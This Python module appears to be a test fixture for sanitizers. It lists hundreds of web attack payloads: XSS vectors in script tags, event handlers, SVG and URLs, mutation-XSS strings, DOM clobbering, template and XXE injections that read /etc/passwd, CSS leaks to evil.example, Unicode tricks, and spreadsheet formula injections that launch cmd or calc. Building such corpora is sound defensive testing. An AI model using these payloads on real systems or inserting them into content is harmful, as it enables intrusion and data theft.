"""Texts that would do harm where a page, a picture or a spreadsheet takes them for more than text. They call `alert`, or load what
the content policy forbids, so that a page tells of it.

All can be stored in a note; `short(80)` are those that fit a line of so many characters.
"""
from __future__ import annotations

SCRIPTS = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script>alert(1)
<script src=data:,alert(1)></script>
<script src=//evil.example/x.js></script>
<script type=module>alert(1)</script>
<script/x>alert(1)</script/x>
<script >alert(1)</script >
<<script>alert(1)//<</script>
</script><script>alert(1)</script>
"</script><script>alert(1)</script>
'</script><script>alert(1)</script>
<!--</script><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
</option></select><script>alert(1)</script>
</text></svg><script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert`1`</script>
<script>\\u0061lert(1)</script>
<script>eval(atob('YWxlcnQoMSk='))</script>
<script>setTimeout('alert(1)')</script>
<script>import('data:text/javascript,alert(1)')</script>
<script async>alert(1)</script>
<script nomodule>alert(1)</script>
<script>window['al'+'ert'](1)</script>
<script>[].constructor.constructor('alert(1)')()</script>
{"x":"</script><script>alert(1)</script>"}
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
<?php echo '<script>alert(1)</script>'; ?>
<% alert(1) %>
"""
HANDLERS = """
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img src=x onerror=alert`1`>
<img/src=x/onerror=alert(1)>
<img src=x oNeRrOr=alert(1)>
<img src onerror=alert(1) x
<img src=data:image/png, onerror=alert(1)>
<img srcset=x onerror=alert(1)>
<img src=x:x onerror=\\u0061lert(1)>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror=alert&lpar;1&rpar;>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
`><img src=x onerror=alert(1)>
" onerror=alert(1) x="
' onfocus=alert(1) autofocus '
" autofocus onfocus=alert(1) x="
x onmouseover=alert(1)
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onresize=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<button autofocus onfocus=alert(1)>x
<div tabindex=0 autofocus onfocus=alert(1)>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)></video>
<video poster=//evil.example/p.png>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<object data=x onerror=alert(1)>
<link rel=stylesheet href=x onerror=alert(1)>
<iframe onload=alert(1)></iframe>
<style onload=alert(1)></style>
<p style=animation:x onanimationstart=alert(1)>
<div onpointerenter=alert(1) style=position:fixed;inset:0>
<div popover id=p onbeforetoggle=alert(1)>
<dialog open onclose=alert(1)>
<a onclick=alert(1)>x</a>
<form onformdata=alert(1)><button autofocus>
<input type=image src=x onerror=alert(1)>
<track onerror=alert(1)>
<frameset onload=alert(1)>
<table background=//evil.example/b.png>
<xss onfocus=alert(1) tabindex=1 id=x>
<keygen autofocus onfocus=alert(1)>
<isindex onfocus=alert(1) autofocus>
"""
SVG = """
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) /></svg>
<svg><script>alert&#40;1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<svg><animate attributeName=href values=javascript:alert(1)><a>x</a>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x">
<svg><image href=//evil.example/i.png>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><discard onbegin=alert(1)>
<svg><feImage href=//evil.example/f.svg>
<![CDATA[<script>alert(1)</script>]]>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<math href="javascript:alert(1)">x</math>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>
<math><mi xlink:href="data:text/html,<script>alert(1)</script>">
"""
ADDRESSES = """
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript&colon;alert(1)
java&Tab;script:alert(1)
javascript://%0aalert(1)
 javascript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
<a href=javascript:alert(1)>x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href=data:text/html,<script>alert(1)</script>>x
<iframe src=javascript:alert(1)>
<iframe srcdoc="<script>alert(1)</script>">
<iframe src=//evil.example></iframe>
<embed src=javascript:alert(1)>
<object data=javascript:alert(1)>
<form action=javascript:alert(1)><input type=submit autofocus>
<button formaction=javascript:alert(1)>x
<base href=javascript:/a/+alert(1)//>
<base href=//evil.example/>
<meta http-equiv=refresh content=0;url=javascript:alert(1)>
<meta http-equiv=refresh content=0;url=//evil.example>
<link rel=import href=data:text/html,<script>alert(1)</script>>
<link rel=prefetch href=//evil.example/>
<area href=javascript:alert(1) shape=default>
[x](javascript:alert(1))
![x](javascript:alert(1))
[x]: javascript:alert(1)
<javascript:alert(1)>
[x](data:text/html,<script>alert(1)</script>)
![x](//evil.example/i.png)
"""
CLOBBERING = """
<form id=app><input name=textContent>
<a id=page>{"board":"evil"}</a>
<script id=page type=application/json>{"board":"evil"}</script>
<img name=getElementById>
<form name=body>
<input name=parentNode>
<a id=location href=//evil.example>
<iframe name=top></iframe>
<a id=config><a id=config name=url href=//evil.example>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<slot name=x onslotchange=alert(1)>
__proto__
constructor
toString
hasOwnProperty
{"__proto__":{"x":1}}
{{7*7}}
{{constructor.constructor('alert(1)')()}}
{{config.items()}}
${alert(1)}
#{7*7}
{% include '/etc/passwd' %}
{{ ''.__class__.__mro__ }}
${{<%[%'"}}%\\.
%s%n%x
{0.__class__}
#let x = read("/etc/passwd")
#import "@preview/x:1.0.0": *
$ alert(1) $
\\input{/etc/passwd}
"""
MUTATIONS = """
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<table><td><svg><desc><td></desc></svg><img src=x onerror=alert(1)>
<select><noembed></select><script>alert(1)</script>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<plaintext><script>alert(1)</script>
<title><a href="</title><img src=x onerror=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
%3Cscript%3Ealert(1)%3C/script%3E
\\x3cscript\\x3ealert(1)\\x3c/script\\x3e
\\u003cimg src=x onerror=alert(1)\\u003e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<img src=`x` onerror=`alert(1)`>
<a title="`<img src=x onerror=alert(1)>`">
<!--[if IE]><script>alert(1)</script><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<!---!><img src=x onerror=alert(1)>
<![><img src=x onerror=alert(1)>
</<img src=x onerror=alert(1)>
"""
STYLES = """
<style>*{background:url(//evil.example/c)}</style>
<style>@import '//evil.example/x.css';</style>
<div style="background:url(javascript:alert(1))">
<div style="background:url(//evil.example/c)">x</div>
<div style="width:expression(alert(1))">
<div style=position:fixed;inset:0;background:red>
<link rel=stylesheet href=//evil.example/x.css>
</style><style>*{display:none}</style>
;background:url(//evil.example/c);
}*{background:url(//evil.example/c)}
red;background:url(javascript:alert(1))
<font face="x" color="url(//evil.example)">
<bgsound src=javascript:alert(1)>
"""
UNICODE = [
    "\u202e<script>alert(1)</script>", "\u202ecod.exe", "\u2066\u202e\u2069<img src=x onerror=alert(1)>", "\u200f\u200e<b>x</b>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039script\u203aalert(1)", "\u02bcscript\u02bc", "\ufeff<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>", "<scr\u00adipt>alert(1)</script>", "<img\u2028src=x\u2029onerror=alert(1)>",
    "<\u017fcript>alert(1)</\u017fcript>", "<\u212amg src=x onerror=alert(1)>", "\u0130<img src=x onerror=alert(1)>",
    "\u3008img src=x onerror=alert(1)\u3009", "e\u0301" * 20 + "<b>", "\U0001f469\u200d\U0001f52c<script>alert(1)</script>",
    "\U000e0041\U000e0042<img src=x onerror=alert(1)>", "Z\u0351\u036b\u0343\u036a\u0302<script>", "\ufffd<script>alert(1)</script>",
    "%00<script>alert(1)</script>", "\\0<script>alert(1)</script>", "&#0;<script>alert(1)</script>", "\u2400<script>alert(1)</script>",
    "null", "undefined", "NaN", "true", "-1", "0", "[object Object]", "\u202a", "\ufff9\ufffa\ufffb",
]
SHEETS = [
    "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/c calc.exe'!'A1'", "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\n=1+1", " =1+1", "'=1+1", "\"=1+1", "=HYPERLINK(\"//evil.example?\"&A1,\"x\")",
    "=IMPORTXML(\"//evil.example\",\"//a\")", "=IMAGE(\"//evil.example\")", "=WEBSERVICE(\"//evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "%0A=1+1", ",=1+1", ";=1+1", "x\",=1+1,\"", "\u200b=1+1", "\ufeff=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1", "=1+1;=2", "{=1+1}", "_x000A_=1+1", "=\tcmd|' /C calc'!A0", "-", "+", "=", "@",
    "=\"\"&\"x\"", "=A1:INDEX(B:B,1)", "-@=+1", "\u00a0=1+1", "\u2212=1", "1E400", "=RAND()",
]
ALL = [*(line for block in (SCRIPTS, HANDLERS, SVG, ADDRESSES, CLOBBERING, MUTATIONS, STYLES) for line in block.strip("\n").split("\n")),
       *UNICODE, *SHEETS]


def short(most: int, *, least: int = 1) -> list[str]:
    """Those that fit one line of so many characters."""
    return [each for each in ALL if least <= len(each.strip()) and len(each) <= most and not set(each) & set("\n\t\u2028\u2029")]
